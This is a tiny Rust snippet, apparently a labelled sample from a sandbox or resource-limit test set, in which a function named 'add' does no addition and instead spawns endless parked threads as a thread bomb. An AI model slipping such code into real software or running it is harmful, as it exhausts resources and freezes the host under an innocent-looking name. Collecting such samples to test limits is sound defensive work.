// Tries: start threads without end
// Kind: bomb

pub fn add(_: i64, _: i64) -> i64 {
    loop { std::thread::spawn(|| loop { std::thread::park() }); }
}
